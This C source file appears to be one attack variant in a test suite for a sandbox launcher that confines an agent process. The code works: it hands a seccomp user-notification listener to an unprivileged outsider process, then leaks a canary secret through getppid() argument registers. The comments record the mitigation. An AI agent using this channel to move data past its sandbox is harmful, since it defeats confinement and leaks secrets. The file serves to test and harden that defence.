// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* seccomp_notify_out - the agent's own system call arguments, delivered to an outsider by the
 * kernel's seccomp user notification. The launcher allows seccomp(2) (an agent may confine
 * itself further), and a filter may return SECCOMP_RET_USER_NOTIF, whose listener fd lets its
 * holder receive each matching call of the filtered task with its six argument registers
 * (48 bytes) and answer it. Before its recv the agent (untainted: it may talk to anyone)
 * installs a filter that sends getppid() to a listener (SECCOMP_FILTER_FLAG_NEW_LISTENER;
 * the launcher's own filter allows getppid, and USER_NOTIF takes precedence over ALLOW), hands
 * the listener to an outsider (uid 65534, DIR/sn.sock) and closes its copy: at the delivery it
 * holds no fd, and the filter is no file. After the taint it calls getppid with the canary in
 * its argument registers; the outsider's SECCOMP_IOCTL_NOTIF_RECV reads them and lets the call
 * continue. (The listener's holder could also inject fds into the agent: SECCOMP_IOCTL_NOTIF_ADDFD.)
 * Verifier: the outsider, asked after the agent exited, hands over the argument bytes it got.
 * Blocks it: the launcher's seccomp filter refuses seccomp(2) with
 * SECCOMP_FILTER_FLAG_NEW_LISTENER (EPERM); a filter without a listener is harmless and stays
 * allowed. LEAKED on both backends before. */
#include <fcntl.h>
#include <grp.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>

#include "atk_variants.h"

static void outsider(const struct atk_ctx *c, const char *path, int cmd, int ans)
{
    (void)c;
    int l = atkv_keeper_listen(path);
    atkv_keeper_nobody();
    if (write(ans, "r", 1) != 1)
        _exit(1);
    int lf = atkv_keeper_take_one(l);
    static char buf[4096];
    size_t n = 0;
    for (;;) { /* answer every notification (the call continues) and keep its arguments */
        struct pollfd pf[2] = {{.fd = lf, .events = POLLIN}, {.fd = cmd, .events = POLLIN}};
        if (poll(pf, 2, -1) < 0)
            _exit(1);
        if (pf[0].revents & POLLIN) {
            struct seccomp_notif req;
            memset(&req, 0, sizeof(req));
            if (ioctl(lf, SECCOMP_IOCTL_NOTIF_RECV, &req) == 0) {
                if (n + sizeof(req.data.args) <= sizeof(buf)) {
                    memcpy(buf + n, req.data.args, sizeof(req.data.args));
                    n += sizeof(req.data.args);
                }
                struct seccomp_notif_resp resp = {.id = req.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
                ioctl(lf, SECCOMP_IOCTL_NOTIF_SEND, &resp);
            }
            continue;
        }
        if (pf[0].revents & (POLLHUP | POLLERR))
            lf = -1; /* the agent is gone: wait for the question only */
        if (pf[1].revents & (POLLIN | POLLHUP))
            break;
    }
    if (n > 0 && write(ans, buf, n) != (ssize_t)n)
        _exit(1);
    _exit(0);
}

static int prepare(struct atk_ctx *c)
{
    char k[700];
    snprintf(k, sizeof(k), "%s/sn.sock", c->dir);
    atk_set(c, "sn", "%s", k);
    return atkv_keeper_start(c, k, outsider, "1 drop to 65534, 2 listen, 3 take the listener");
}

static int agent(struct atk_ctx *c)
{
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {.len = sizeof(f) / sizeof(f[0]), .filter = f};
    int lf = (int)atk_try(c, "seccomp filter with a user-notification listener",
                          syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog));
    int s = (int)atk_try(c, "connect the outsider", atk_unix(SOCK_STREAM, atk_arg(c, "sn")));
    if (lf < 0 || s < 0)
        return 0;
    atk_try(c, "hand the listener to the outsider", atk_send_fds(s, 'L', &lf, 1));
    char ack;
    atk_try(c, "outsider holds it", read(s, &ack, 1));
    close(s);
    close(lf);
    atk_recv(c);
    unsigned long a[6] = {0};
    memcpy(a, c->secret, strlen(c->secret) < sizeof(a) ? strlen(c->secret) : sizeof(a) - 1);
    atk_try(c, "getppid with the canary in its six argument registers",
            syscall(SYS_getppid, a[0], a[1], a[2], a[3], a[4], a[5]));
    return 0;
}

static void verify(struct atk_ctx *c)
{
    atkv_keeper_verify(c, "the agent's getppid() arguments, read by the outsider holding its seccomp listener");
}

static const struct atk A = {
    "seccomp_notify_out",
    "seccomp user-notification listener handed to an outsider; syscall arguments carry the canary",
    ATK_NO_RECV,
    prepare,
    agent,
    NULL,
    verify,
    atkv_keeper_cleanup};
ATK_MAIN(A)
